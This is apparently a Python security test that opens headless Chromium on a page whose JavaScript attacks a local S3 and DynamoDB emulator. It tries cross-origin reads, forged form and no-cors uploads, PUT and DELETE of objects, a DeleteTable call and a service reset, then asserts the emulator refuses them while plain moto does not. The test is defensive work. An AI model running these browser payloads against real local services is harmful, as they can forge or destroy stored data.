"""A real browser opens a page that attacks the embedded cloud. Run it with ``make browser``."""

import json
import os
import queue
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto.server import ThreadedMotoServer

from s3mr.local.cloud import EmbeddedCloud

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
QUIET = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
PAGE_S_MAX = 120.0
BUCKET, KEY = "s3mr-embedded", "plan/job-1/bundle.zip"

pytestmark = pytest.mark.skipif(
    "S3MR_BROWSER" not in os.environ, reason="make browser and make nightly start Chromium for it"
)

# Attacks TARGET with requests that need no CORS permission and with requests that do, then reports what it could see.
PAGE = """
<!doctype html><title>a page</title><body><script>
const target = "TARGET", object = target + "/BUCKET/KEY", seen = {};
const within = (what, promise) => Promise.race([
  promise.then(found => { seen[what] = found }, () => { seen[what] = "refused" }),
  new Promise(over => setTimeout(over, 5000)),
]);
const loaded = (name, url) => new Promise((resolve, reject) => {
  const one = document.createElement(name);
  one.onload = () => resolve("loaded"); one.onerror = reject; one.src = url; document.body.append(one);
});
const formed = (url, fields, type) => new Promise(resolve => {
  const frame = document.createElement("iframe"); frame.name = "frame" + Math.random(); document.body.append(frame);
  const form = document.createElement("form");
  form.action = url; form.method = "post"; form.enctype = type; form.target = frame.name;
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("textarea"); field.name = name; field.value = value; form.append(field);
  }
  document.body.append(form); form.submit();
  frame.onload = () => resolve("sent");
});
const read = (url, options) => fetch(url, options).then(async one => one.status + " " + await one.text());
const blind = (url, options) => fetch(url, { mode: "no-cors", ...options }).then(() => "sent");
(async () => {
  await within("image", loaded("img", object));
  await within("script", loaded("script", object));
  await within("read object", read(object));
  await within("list", read(target + "/BUCKET?list-type=2"));
  await within("form upload", formed(target + "/BUCKET", { key: "KEY", file: "forged" }, "multipart/form-data"));
  await within("blind text", blind(target + "/BUCKET", { method: "POST", body: "forged" }));
  await within("put", read(object, { method: "PUT", body: "forged" }));
  await within("delete", read(object, { method: "DELETE" }));
  await within("signed put", read(object, { method: "PUT", body: "forged", headers: { Authorization:
    "AWS4-HMAC-SHA256 Credential=embedded/20260102/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=0" } }));
  await within("table", read(target + "/", { method: "POST", body: '{"TableName": "s3mr"}',
    headers: { "X-Amz-Target": "DynamoDB_20120810.DeleteTable", "Content-Type": "application/x-amz-json-1.0" } }));
  await within("state", read(target + "/moto-api/data.json"));
  navigator.sendBeacon(target + "/BUCKET/" + "KEY", "forged");
  if (RESET) await within("reset", blind(target + "/moto-api/reset", { method: "POST" }));
  await fetch("/seen", { method: "POST", body: JSON.stringify(seen) });
})();
</script>
"""


@contextmanager
def serving(page: str) -> Iterator[tuple[str, "queue.Queue[dict[str, str]]"]]:
    """Serve the page at its own origin; yield the address and a queue of what the page reports to have seen."""
    reports: queue.Queue[dict[str, str]] = queue.Queue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(page.encode())

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://localhost:{server.server_port}/", reports
        server.shutdown()
        thread.join()


@pytest.fixture
def look_at(tmp_path: Path) -> Callable[..., dict[str, str]]:
    """Open a page that attacks ``target`` in a browser, and return what the page saw."""
    if CHROMIUM is None:
        pytest.fail("make browser needs Chromium: apt-get install chromium (on macOS: brew install chromium)")
    browser = CHROMIUM

    def look(target: str, *, reset: bool = True) -> dict[str, str]:
        page = PAGE.replace("TARGET", target).replace("BUCKET", BUCKET).replace("KEY", KEY)
        with serving(page.replace("RESET", "true" if reset else "false")) as (address, reports):
            command = [browser, *QUIET, f"--user-data-dir={tmp_path}/{reset}", address]
            with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
                try:
                    return reports.get(timeout=PAGE_S_MAX)
                finally:
                    process.terminate()

    return look


def test_a_page_of_another_origin_reads_and_changes_nothing(look_at: Callable[..., dict[str, str]]) -> None:
    with EmbeddedCloud() as cloud:
        cloud.create_stack()
        cloud.stack.objects.put(KEY, b"code")
        seen = look_at(cloud.settings.endpoint_url)
        assert list(cloud.stack.objects.list("")) == [KEY]
        assert b"".join(cloud.stack.objects.stream(KEY)) == b"code"
        assert cloud.stack.store.read_job("job-1") is None  # without an error: the table still exists
    blind = {"form upload", "blind text", "reset"}  # a page can send these anywhere, but cannot read the response
    assert {what for what, found in seen.items() if found != "refused"} == blind
    assert len(seen) == len(blind) + 9


def test_the_same_page_forges_an_object_and_resets_services_without_access_control(
    look_at: Callable[..., dict[str, str]],
) -> None:
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    target = f"http://{host}:{port}"
    s3 = boto3.session.Session("any", "key", region_name="us-east-1").client("s3", endpoint_url=target)
    s3.create_bucket(Bucket=BUCKET)
    s3.put_object(Bucket=BUCKET, Key=KEY, Body=b"code")
    try:
        seen = look_at(target, reset=False)
        assert seen["list"].startswith("200 ")
        assert s3.get_object(Bucket=BUCKET, Key=KEY)["Body"].read() == b"forged"
        look_at(target)
        assert s3.list_buckets()["Buckets"] == []
    finally:
        server.stop()
